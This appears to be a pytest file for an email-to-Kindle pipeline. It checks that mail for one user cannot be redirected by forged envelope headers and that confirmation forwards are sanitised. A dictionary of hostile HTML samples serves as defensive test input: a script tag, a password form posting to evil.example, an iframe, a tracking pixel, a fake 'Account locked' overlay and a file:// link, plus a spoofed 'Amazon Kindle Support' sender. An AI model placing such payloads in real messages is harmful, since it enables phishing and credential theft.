"""Routing and forwards (issue 9, points 1 and 2), end to end: S3 (moto), the real sensor and job, SMTP.

Two users, alice and bob. An email SES received for alice's address must reach
alice's Kindle only, whatever headers its sender wrote; confirmation forwards
must be rebuilt from sanitised content. Both are being built on branch ``routing``.
"""

from __future__ import annotations

import pytest

from inbox_pipeline_tests.defs import mails
from inbox_pipeline_tests.hostile import inputs
from inbox_pipeline_tests.hostile.bounded import measure
from inbox_pipeline_tests.hostile.pipeline import MEGABYTES, SECONDS, arrived, kindle, own, run_pipeline
from inbox_pipeline_tests.helpers import epub_text, via_ses



def ses_received(raw: bytes, *recipients: str) -> bytes:
    """``raw`` as SES stores it: its own Received header, naming the envelope recipients, on top."""
    rcpt = " ".join(f"for {r};" for r in recipients[:1])
    head = (
        "Return-Path: <notes@harbour.example>\r\n"
        "Received: from mail.harbour.example (mail.harbour.example [203.0.113.9])\r\n"
        f" by inbound-smtp.us-east-1.amazonaws.com with SMTP id ses{len(raw)}\r\n {rcpt}\r\n"
        " Tue, 03 Mar 2026 07:00:01 +0000 (UTC)\r\n"
        "X-SES-Spam-Verdict: PASS\r\nX-SES-Virus-Verdict: PASS\r\n"
    )
    return head.encode() + raw


def through_s3(monkeypatch, tmp_path, smtp_sink, s3_bucket, objects) -> dict:
    settings = {"INBOX": f"s3://{s3_bucket}/incoming/", "STORAGE": f"s3://{s3_bucket}/books/", "MAILER": smtp_sink.url}
    return measure(run_pipeline, monkeypatch, tmp_path, objects, settings, seconds=SECONDS, megabytes=MEGABYTES).value


def test_an_email_for_alice_reaches_alice_only(monkeypatch, tmp_path, smtp_sink, s3_bucket) -> None:
    got = through_s3(monkeypatch, tmp_path, smtp_sink, s3_bucket, lambda a: {
        "m1.eml": ses_received(inputs.html_email(inputs.ARTICLE, to=a["alice"]), a["alice"]),
    })
    assert all(got["runs_ok"]) and [r[1] for r in got["rows"]] == ["delivered"]
    mail = arrived(smtp_sink)
    assert list(mail) == [kindle("alice")]
    assert got["used"] == {"alice": 1, "bob": 0}


@pytest.mark.parametrize("header", ["X-Original-To", "Delivered-To", "Envelope-To", "X-Rcpt-To"])
def test_a_forged_envelope_header_cannot_reach_another_user(monkeypatch, tmp_path, smtp_sink, s3_bucket,
                                                             header: str) -> None:
    got = through_s3(monkeypatch, tmp_path, smtp_sink, s3_bucket, lambda a: {
        "m1.eml": ses_received(
            inputs.html_email(inputs.ARTICLE, to=a["alice"], headers={header: a["bob"]}), a["alice"]
        ),
    })
    mail = arrived(smtp_sink)
    assert kindle("bob") not in mail, f"bob's Kindle got alice's email through {header}"
    assert len(mail.get(kindle("alice"), [])) == 1
    assert got["used"] == {"alice": 1, "bob": 0}


def test_each_envelope_recipient_gets_the_email_once(monkeypatch, tmp_path, smtp_sink, s3_bucket) -> None:
    def objects(a):
        both = f"{a['alice']}, {a['bob']}"
        # SES's own Received header on top names the envelope recipients (helpers.via_ses)
        return {"m1.eml": via_ses(inputs.html_email(inputs.ARTICLE, to=both), both)}

    got = through_s3(monkeypatch, tmp_path, smtp_sink, s3_bucket, objects)
    mail = arrived(smtp_sink)
    assert len(mail.get(kindle("alice"), [])) == 1 and len(mail.get(kindle("bob"), [])) == 1
    assert got["used"] == {"alice": 1, "bob": 1}


# --- confirmation forwards ------------------------------------------------------------------------

CONFIRM = "https://harbour.example/confirm?token=tok-9"


def confirmation(attack: str, *, sender: str = '"Harbour Notes" <hello@harbour.example>') -> callable:
    html = (
        f"{attack}<p>Please confirm your subscription to Harbour Notes.</p>"
        f'<p><a href="{CONFIRM}">Confirm my subscription</a></p>'
    )
    return lambda a: {"c1.eml": ses_received(
        inputs.html_email(html, subject="Please confirm your subscription", to=a["alice"], sender=sender), a["alice"]
    )}


def forwarded(monkeypatch, tmp_path, smtp_sink, s3_bucket, objects):
    got = through_s3(monkeypatch, tmp_path, smtp_sink, s3_bucket, objects)
    assert [r[1] for r in got["rows"]] == ["confirmation_forwarded"], got["rows"]
    mail = arrived(smtp_sink)
    assert list(mail) == [own("alice")], list(mail)
    (message,) = mail[own("alice")]
    html = message.get_body(("html",))
    markup = html.get_content() if html is not None else ""
    text = message.get_body(("plain",)).get_content()
    assert CONFIRM in text and text.index(CONFIRM) < len(text) // 2
    return message, markup.lower()


FORWARD_ATTACKS = {
    "script": ("<script>steal()</script>", ("<script",)),
    "form with password": (
        '<form action="https://evil.example/p"><input type="password" name="pw"><button>Sign in</button></form>',
        ("<form", "<input", "password"),
    ),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', ("<iframe",)),
    "tracking pixel": ('<img src="https://evil.example/open.gif?u=1" width="1" height="1">', ("evil.example",)),
    "fixed overlay": ('<div style="position:fixed;inset:0;z-index:99">Account locked</div>', ("position",)),
    "file link": ('<a href="file:///c:/windows/system32">Open</a>', ("file:",)),
}


def test_a_plain_confirmation_is_forwarded_with_the_link_first(monkeypatch, tmp_path, smtp_sink, s3_bucket) -> None:
    message, _markup = forwarded(monkeypatch, tmp_path, smtp_sink, s3_bucket, confirmation(""))
    assert kindle("alice") not in arrived(smtp_sink)


@pytest.mark.parametrize("name", sorted(FORWARD_ATTACKS))
def test_a_forward_carries_no_active_or_deceptive_content(monkeypatch, tmp_path, smtp_sink, s3_bucket,
                                                          name: str) -> None:
    attack, traces = FORWARD_ATTACKS[name]
    _message, markup = forwarded(monkeypatch, tmp_path, smtp_sink, s3_bucket, confirmation(attack))
    found = [t for t in traces if t in markup]
    assert not found, found


def test_a_forward_never_shows_a_display_name_that_passes_for_amazon(monkeypatch, tmp_path, smtp_sink,
                                                                      s3_bucket) -> None:
    objects = confirmation("", sender='"Amazon Kindle Support" <kindle-support@phish.example>')
    message, markup = forwarded(monkeypatch, tmp_path, smtp_sink, s3_bucket, objects)
    assert "amazon" not in str(message["From"]).lower() and "amazon" not in str(message["Subject"]).lower()
    text = message.get_body(("plain",)).get_content()
    # Our own words (everything above the original) never repeat the display name: today they
    # open with "Amazon Kindle Support <...> asks you to confirm your subscription".
    ours = text.split("Original message")[0] + markup.split("<hr")[0]
    assert "amazon" not in ours.lower(), ours
    assert "kindle-support@phish.example" in text  # the real address, quoted
